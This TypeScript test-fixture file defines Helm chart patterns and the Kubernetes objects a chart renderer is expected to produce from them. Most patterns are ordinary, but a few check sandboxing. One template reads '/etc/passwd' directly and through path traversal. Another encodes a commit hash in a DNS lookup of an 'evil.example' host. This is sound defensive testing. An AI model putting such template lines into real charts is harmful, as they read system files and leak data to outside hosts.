import { sha256 } from '../../../app/core/object.ts';
import type { ChartRequest } from '../../../app/core/ports.ts';
import { api, commits, type Files } from './cloud.ts';
import { packed } from './tgz.ts';

/** A chart as people write them, and what must come of it: values by place, and the names of all objects where they matter. */
export type ChartPattern = {
  readonly name: string;
  readonly files: Files;
  readonly changes?: Partial<ChartRequest> & { readonly more?: ChartRequest['computed'] };
  readonly objects?: readonly string[];
  readonly has: Readonly<Record<string, unknown>>;
};

const head = 'apiVersion: v2\nname: api\nversion: 0.1.0\n';
/** A template of a ConfigMap called `a` whose data are these lines. */
const data = (lines: string): string => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\ndata:\n${lines.replaceAll(/^/gm, '  ')}\n`;
const deployment = (name: string, more = ''): string => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: ${name}
spec:
  selector: { matchLabels: { app: ${name} } }
  template:
    metadata:
      labels: { app: ${name} }${more}
    spec:
      containers:
        - name: ${name}
          image: "registry.bar.com/${name}:{{ .Values.image.tag }}"
          ports: [{ name: http, containerPort: 8080 }]
`;
const ofSub = { 'Chart.yaml': 'apiVersion: v2\nname: redis\nversion: 1.2.3\n', 'values.yaml': 'size: 1\n', 'templates/redis.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: "{{ .Release.Name }}-redis" }\ndata: { size: "{{ .Values.size }}", of: "{{ .Values.global.zone }}", chart: "{{ .Chart.Name }}" }\n' };
const within = (folder: string, files: Readonly<Record<string, string>>): Files => Object.fromEntries(Object.entries(files).map(([path, content]) => [`${folder}/${path}`, content]));
const needsRedis = `${head}dependencies:\n  - { name: redis, version: 1.x.x, repository: "https://charts.example.com", condition: redis.enabled }\n`;
const library = { 'Chart.yaml': 'apiVersion: v2\nname: common\nversion: 2.0.0\ntype: library\n', 'templates/_all.tpl': '{{- define "common.labels" -}}\nteam: {{ .Values.team }}\n{{- end }}\n' };

export const chartPatterns: readonly ChartPattern[] = [
  {
    name: 'a Deployment, and the image of the commit',
    files: api({ 'templates/d.yaml': deployment('web') }),
    has: { 'Deployment/web spec.template.spec.containers[0].image': `registry.bar.com/web:${commits[0]}`, 'Deployment/web file': '.cloud/charts/api/templates/d.yaml' },
  },
  {
    name: 'two Deployments in one file',
    files: api({ 'templates/all.yaml': `${deployment('web')}---\n${deployment('worker')}` }),
    objects: ['Deployment/web', 'Deployment/worker'],
    has: { 'Deployment/worker file': '.cloud/charts/api/templates/all.yaml' },
  },
  {
    name: 'a StatefulSet with a volume',
    files: api({ 'templates/db.yaml': 'apiVersion: apps/v1\nkind: StatefulSet\nmetadata: { name: db }\nspec:\n  serviceName: db\n  selector: { matchLabels: { app: db } }\n  template:\n    metadata: { labels: { app: db } }\n    spec:\n      containers: [{ name: db, image: postgres:17, volumeMounts: [{ name: data, mountPath: /data }] }]\n  volumeClaimTemplates:\n    - metadata: { name: data }\n      spec: { accessModes: [ReadWriteOnce], resources: { requests: { storage: 1Gi } } }\n' }),
    has: { 'StatefulSet/db spec.volumeClaimTemplates[0].spec.resources.requests.storage': '1Gi' },
  },
  {
    name: 'a CronJob whose schedule is text',
    files: api({ 'templates/c.yaml': 'apiVersion: batch/v1\nkind: CronJob\nmetadata: { name: c }\nspec: { schedule: {{ .Values.schedule | quote }}, suspend: {{ .Values.suspend }} }\n', 'values.yaml': 'schedule: "*/5 * * * *"\nsuspend: false\n' }),
    has: { 'CronJob/c spec.schedule': '*/5 * * * *', 'CronJob/c spec.suspend': false },
  },
  {
    name: 'a checksum of the ConfigMap in the pods’ annotations',
    files: api({ 'templates/c.yaml': data('a: "1"'), 'templates/d.yaml': deployment('web', '\n      annotations:\n        checksum/config: {{ include (print $.Template.BasePath "/c.yaml") . | sha256sum }}') }),
    has: { 'Deployment/web spec.template.metadata.annotations["checksum/config"]': sha256(data('a: "1"')) },
  },
  {
    name: 'lookup finds nothing (B68)',
    files: api({ 'templates/c.yaml': data('found: {{ lookup "v1" "Secret" "" "" | toJson | quote }}\n{{- if not (lookup "v1" "ConfigMap" .Release.Namespace "x") }}\nnew: "yes"\n{{- end }}') }),
    has: { 'ConfigMap/a data.found': '{}', 'ConfigMap/a data.new': 'yes' },
  },
  {
    name: 'hooks keep their annotations, tests are left out (B70)',
    files: api({
      'templates/j.yaml': 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: migrate\n  annotations: { helm.sh/hook: "pre-install,pre-upgrade", helm.sh/hook-weight: "-5", helm.sh/hook-delete-policy: hook-succeeded }\n',
      'templates/k.yaml': 'apiVersion: batch/v1\nkind: Job\nmetadata: { name: last, annotations: { helm.sh/hook: pre-delete } }\n',
      'templates/t.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: { name: t, annotations: { helm.sh/hook: test } }\n',
      'templates/p.yaml': 'apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: { name: p, annotations: { helm.sh/resource-policy: keep } }\n',
    }),
    objects: ['Job/migrate', 'Job/last', 'PersistentVolumeClaim/p'],
    has: { 'Job/migrate metadata.annotations': { 'helm.sh/hook': 'pre-install,pre-upgrade', 'helm.sh/hook-weight': '-5', 'helm.sh/hook-delete-policy': 'hook-succeeded' } },
  },
  {
    name: 'crds/ is not rendered (B70)',
    files: api({ 'templates/c.yaml': data('a: b'), 'crds/x.yaml': 'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: { name: x }\n' }),
    objects: ['ConfigMap/a'],
    has: {},
  },
  {
    name: 'a subchart vendored as a folder, with values of its own and global ones',
    files: api({ 'values.yaml': 'redis: { enabled: true, size: 3 }\nglobal: { zone: eu }\n', ...within('charts/redis', ofSub) }, needsRedis),
    objects: ['ConfigMap/foo-redis'],
    has: { 'ConfigMap/foo-redis data': { size: '3', of: 'eu', chart: 'redis' }, 'ConfigMap/foo-redis file': '.cloud/charts/api/charts/redis/templates/redis.yaml' },
  },
  {
    name: 'a subchart vendored as an archive',
    files: api({ 'values.yaml': 'redis: { size: 3 }\nglobal: { zone: eu }\n', 'charts/redis-1.2.3.tgz': packed('redis', ofSub) }, needsRedis),
    has: { 'ConfigMap/foo-redis data.size': '3', 'ConfigMap/foo-redis file': '.cloud/charts/api/charts/redis-1.2.3.tgz/templates/redis.yaml' },
  },
  {
    name: 'a subchart in a subchart, both in archives',
    files: api({ 'values.yaml': 'global: { zone: eu }\n', 'charts/mid-1.0.0.tgz': packed('mid', { 'Chart.yaml': 'apiVersion: v2\nname: mid\nversion: 1.0.0\n', ...within('charts/redis', ofSub) as Record<string, string> }) }),
    has: { 'ConfigMap/foo-redis data.size': '1', 'ConfigMap/foo-redis file': '.cloud/charts/api/charts/mid-1.0.0.tgz/charts/redis/templates/redis.yaml' },
  },
  {
    name: 'a subchart that is switched off',
    files: api({ 'templates/c.yaml': data('a: b'), 'values.yaml': 'redis: { enabled: false }\n', ...within('charts/redis', ofSub) }, needsRedis),
    objects: ['ConfigMap/a'],
    has: {},
  },
  {
    name: 'a subchart under another name',
    files: api({ 'values.yaml': 'cache: { size: 9 }\nglobal: { zone: eu }\n', 'charts/redis-1.2.3.tgz': packed('redis', ofSub) }, `${head}dependencies:\n  - { name: redis, version: 1.2.3, repository: "file://../redis", alias: cache }\n`),
    has: { 'ConfigMap/foo-redis data': { size: '9', of: 'eu', chart: 'cache' }, 'ConfigMap/foo-redis file': '.cloud/charts/api/charts/redis-1.2.3.tgz/templates/redis.yaml' },
  },
  {
    name: 'a library chart',
    files: api({ 'values.yaml': 'team: shop\n', 'templates/c.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  labels:\n    {{- include "common.labels" . | nindent 4 }}\n', ...within('charts/common', library) }, `${head}dependencies: [{ name: common, version: 2.0.0, repository: "" }]\n`),
    objects: ['ConfigMap/a'],
    has: { 'ConfigMap/a metadata.labels': { team: 'shop' } },
  },
  {
    name: 'a chart of apiVersion v1 with requirements.yaml',
    files: api({ 'values.yaml': 'global: { zone: eu }\n', 'requirements.yaml': 'dependencies:\n  - { name: redis, version: 1.2.3, repository: "https://charts.example.com" }\n', 'charts/redis-1.2.3.tgz': packed('redis', ofSub) }, 'apiVersion: v1\nname: api\nversion: 0.1.0\n'),
    has: { 'ConfigMap/foo-redis data.size': '1' },
  },
  {
    name: 'helpers in _helpers.tpl, NOTES.txt, and files that are none of helm’s',
    files: api({ 'templates/_helpers.tpl': '{{- define "api.name" -}}\n{{ printf "%s-%s" .Release.Name .Chart.Name | trunc 63 | trimSuffix "-" }}\n{{- end }}\n', 'templates/NOTES.txt': 'Hello {{ include "api.name" . }}\n', 'templates/c.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: {{ include "api.name" . }} }\n', 'README.md': '# {{ not a template', '.helmignore': '*.tmp\n', LICENSE: '' }),
    objects: ['ConfigMap/foo-api'],
    has: {},
  },
  {
    name: 'tpl of a value',
    files: api({ 'values.yaml': 'url: "https://{{ .Values.avant.host }}/{{ .Release.Name }}"\n', 'templates/c.yaml': data('url: {{ tpl .Values.url . | quote }}') }),
    has: { 'ConfigMap/a data.url': 'https://foo-241-fr.preview.bar.com/foo' },
  },
  {
    name: 'range over a list and over a map',
    files: api({ 'values.yaml': 'hosts: [a, b]\nenv: { B: 2, A: 1 }\n', 'templates/c.yaml': data('{{- range $i, $host := .Values.hosts }}\nhost-{{ $i }}: {{ $host }}\n{{- end }}\n{{- range $name, $value := .Values.env }}\n{{ $name }}: {{ $value | quote }}\n{{- end }}') }),
    has: { 'ConfigMap/a data': { 'host-0': 'a', 'host-1': 'b', A: '1', B: '2' } },
  },
  {
    name: 'toYaml and nindent',
    files: api({ 'values.yaml': 'extra:\n  list: [1, two, true]\n  map: { k: "v: w" }\n', 'templates/c.yaml': data('extra:\n  {{- toYaml .Values.extra | nindent 4 }}') }),
    has: { 'ConfigMap/a data.extra': { list: [1, 'two', true], map: { k: 'v: w' } } },
  },
  {
    name: '.Files.Get, .Files.Glob and AsSecrets, and nothing outside the chart (B69)',
    files: api({ 'files/a.conf': 'one\ntwo\n', 'files/b.conf': 'three\n', 'templates/c.yaml': `${data('own: {{ .Files.Get "files/a.conf" | quote }}\npasswd: {{ .Files.Get "/etc/passwd" | quote }}\nup: {{ .Files.Get "../../../../etc/passwd" | quote }}\nall: "{{ len (.Files.Glob "../**") }}"')}  {{- (.Files.Glob "files/*").AsConfig | nindent 2 }}\n`, 'templates/s.yaml': 'apiVersion: v1\nkind: Secret\nmetadata: { name: s }\ndata:\n  {{- (.Files.Glob "files/b*").AsSecrets | nindent 2 }}\n' }),
    has: { 'ConfigMap/a data': { own: 'one\ntwo\n', passwd: '', up: '', all: '0', 'a.conf': 'one\ntwo\n', 'b.conf': 'three\n' }, 'Secret/s data': { 'b.conf': 'dGhyZWUK' } },
  },
  {
    name: '.Capabilities: the version of the cluster',
    files: api({ 'templates/c.yaml': data('version: {{ .Capabilities.KubeVersion.Version }}\nminor: {{ .Capabilities.KubeVersion.Minor | quote }}\n{{- if semverCompare ">=1.30-0" .Capabilities.KubeVersion.GitVersion }}\nnew: "yes"\n{{- end }}\n{{- if .Capabilities.APIVersions.Has "networking.k8s.io/v1/Ingress" }}\ningress: "yes"\n{{- end }}') }),
    has: { 'ConfigMap/a data': { version: 'v1.36.1', minor: '36', new: 'yes', ingress: 'yes' } },
  },
  {
    name: 'required and fail that are content',
    files: api({ 'templates/c.yaml': data('tag: {{ required "image.tag is missing" .Values.image.tag }}\n{{- if not .Values.avant.host }}{{ fail "no host" }}{{ end }}') }),
    has: { 'ConfigMap/a data.tag': commits[0] },
  },
  {
    name: 'values: the chart’s, values-preview.yaml, values-<tenant>.yaml, the project’s, the platform’s',
    files: api({
      'values.yaml': 'of: { chart: chart, preview: chart, tenant: chart, project: chart, platform: chart }\nimage: { tag: chart, pullPolicy: Never }\navant: { sha: mine }\n',
      'values-preview.yaml': 'of: { preview: preview, tenant: preview, project: preview, platform: preview }\n',
      'values-fr.yaml': 'of: { tenant: tenant, project: tenant, platform: tenant }\n',
      'values-be.yaml': 'of: { chart: be, preview: be, tenant: be }\n',
      'templates/c.yaml': data('{{- range $name, $from := .Values.of }}\n{{ $name }}: {{ $from }}\n{{- end }}\npull: {{ .Values.image.pullPolicy }}\ntag: {{ .Values.image.tag }}\nsha: {{ .Values.avant.sha }}'),
    }),
    changes: { values: [{ of: { project: 'project', platform: 'project' } }, { of: { platform: 'platform' } }] },
    has: { 'ConfigMap/a data': { chart: 'chart', preview: 'preview', tenant: 'tenant', project: 'project', platform: 'platform', pull: 'Never', tag: commits[0], sha: commits[0] } },
  },
  {
    name: 'no tenant: values-<tenant>.yaml of nobody',
    files: api({ 'values.yaml': 'x: chart\n', 'values-fr.yaml': 'x: fr\n', 'values-.yaml': 'x: nobody\n', 'templates/c.yaml': data('x: {{ .Values.x }}') }),
    changes: { tenant: '' },
    has: { 'ConfigMap/a data.x': 'chart' },
  },
  {
    name: 'a value that takes one of the chart’s away',
    files: api({ 'values.yaml': 'probe: { path: /a }\n', 'templates/c.yaml': data('probe: {{ .Values.probe | toJson | quote }}') }),
    changes: { values: [{ probe: null }] },
    has: { 'ConfigMap/a data.probe': 'null' },
  },
  {
    name: 'values that look like paths and templates stay what they are (B142)',
    files: api({ 'templates/c.yaml': data('x: {{ index .Values "a.b[9999999999]" }}\nz: {{ .Values.global.z | quote }}') }),
    changes: { values: [{ 'a.b[9999999999]': 'kept', global: { z: '{{ fail "no" }}' } }] },
    has: { 'ConfigMap/a data': { x: 'kept', z: '{{ fail "no" }}' } },
  },
  {
    name: 'an Ingress only where it is wanted, and a port by its name',
    files: api({ 'values.yaml': 'ingress: { enabled: false }\n', 'values-preview.yaml': 'ingress: { enabled: true }\n', 'templates/i.yaml': '{{- if .Values.ingress.enabled -}}\napiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: { name: i }\nspec: { rules: [{ host: "{{ .Values.avant.host }}", http: { paths: [{ path: /, pathType: Prefix, backend: { service: { name: web, port: { name: http } } } }] } }] }\n{{- end }}\n', 'templates/s.yaml': 'apiVersion: v1\nkind: Service\nmetadata: { name: web }\nspec: { ports: [{ name: http, port: 80, targetPort: http }] }\n' }),
    has: { 'Ingress/i spec.rules[0].host': 'foo-241-fr.preview.bar.com', 'Ingress/i spec.rules[0].http.paths[0].backend.service.port.name': 'http', 'Service/web spec.ports[0]': { name: 'http', port: 80, targetPort: 'http' } },
  },
  {
    name: 'what .Release and .Chart say',
    files: api({ 'templates/c.yaml': data('r: {{ .Release.Name }} {{ .Release.Namespace }} {{ .Release.Service }} {{ .Release.IsInstall }} {{ .Release.Revision }}\nc: {{ .Chart.Name }} {{ .Chart.Version }} {{ .Chart.AppVersion }}') }, `${head}appVersion: "1.0"\n`),
    has: { 'ConfigMap/a data': { r: 'foo foo-241-fr Helm true 1', c: 'api 0.1.0 1.0' } },
  },
  {
    name: 'getHostByName asks nobody (B67)',
    files: api({ 'templates/c.yaml': data('ip: {{ getHostByName (printf "%s.evil.example" .Values.avant.sha) | quote }}') }),
    has: { 'ConfigMap/a data.ip': '' },
  },
  {
    name: 'a password made by chance is made once and kept, and its checksum is no reason to restart',
    files: api({ 'templates/s.yaml': 'apiVersion: v1\nkind: Secret\nmetadata: { name: s }\nstringData: { password: "{{ randAlphaNum 32 }}", user: shop }\n', 'templates/d.yaml': deployment('web', '\n      annotations:\n        checksum/secret: {{ include (print $.Template.BasePath "/s.yaml") . | sha256sum }}\n        rollme: {{ randAlphaNum 12 | quote }}\n        at: {{ now | quote }}') }),
    has: { 'Secret/s stringData.user': 'shop', 'Deployment/web spec.template.metadata.annotations["checksum/secret"]': 'by-chance' },
  },
  {
    name: 'YAML as Kubernetes reads it: Norway, octal numbers, dates, base 60 (B57)',
    files: api({ 'templates/c.yaml': data('country: NO\nquoted: "NO"\nmode: 0644\ndate: 2026-11-22\ntime: 12:30:45\nbig: 1_000\nhex: 0x1F\nempty:\ntilde: ~\nfloat: 1e3\non: off') }),
    has: { 'ConfigMap/a data': { country: false, quoted: 'NO', mode: 420, date: '2026-11-22', time: '12:30:45', big: 1000, hex: 31, empty: null, tilde: null, float: 1000, true: false } },
  },
  {
    name: 'a List',
    files: api({ 'templates/l.yaml': 'apiVersion: v1\nkind: List\nitems:\n  - { apiVersion: v1, kind: ConfigMap, metadata: { name: a } }\n  - { apiVersion: v1, kind: List, items: [{ apiVersion: v1, kind: ConfigMap, metadata: { name: b } }] }\n' }),
    objects: ['ConfigMap/a', 'ConfigMap/b'],
    has: { 'ConfigMap/b file': '.cloud/charts/api/templates/l.yaml' },
  },
  {
    name: 'Windows line ends, byte order marks, empty files (B146, B147)',
    files: api({ 'values.yaml': '\uFEFFx: 1\r\n', 'templates/c.yaml': `\uFEFF${data('x: "{{ .Values.x }}"').replaceAll('\n', '\r\n')}`, 'templates/empty.yaml': '', 'templates/comment.yaml': '# nothing\n', 'templates/off.yaml': '{{ if false }}a{{ end }}\n', 'values-preview.yaml': '' }, head.replaceAll('\n', '\r\n')),
    objects: ['ConfigMap/a'],
    has: { 'ConfigMap/a data.x': '1' },
  },
  {
    name: 'a document in a text',
    files: api({ 'templates/c.yaml': data('x: |\n  a: b\n  # Source: fake/templates/x.yaml\n   ---\n  c: d') }),
    objects: ['ConfigMap/a'],
    has: { 'ConfigMap/a data.x': 'a: b\n# Source: fake/templates/x.yaml\n ---\nc: d\n', 'ConfigMap/a file': '.cloud/charts/api/templates/c.yaml' },
  },
  {
    name: 'a template that says it is another',
    files: api({ 'templates/c.yaml': `---\n# Source: other/templates/x.yaml\n${data('x: y')}` }),
    has: { 'ConfigMap/a file': '.cloud/charts/api/templates/c.yaml' },
  },
  {
    name: 'a schema with references of its own, and a vendored one with others',
    files: api({ 'values.yaml': 'a: 1\n', 'values.schema.json': JSON.stringify({ $schema: 'http://json-schema.org/draft-07/schema#', properties: { a: { $ref: '#/definitions/n' } }, definitions: { n: { type: 'integer' } } }), 'templates/c.yaml': data('x: y'), 'charts/redis-1.2.3.tgz': packed('redis', { ...ofSub, 'values.schema.json': '{"$ref":"https://raw.example.com/k8s.json"}' }) }),
    changes: { values: [{ global: { zone: 'eu' } }] },
    objects: ['ConfigMap/a', 'ConfigMap/foo-redis'],
    has: {},
  },
];
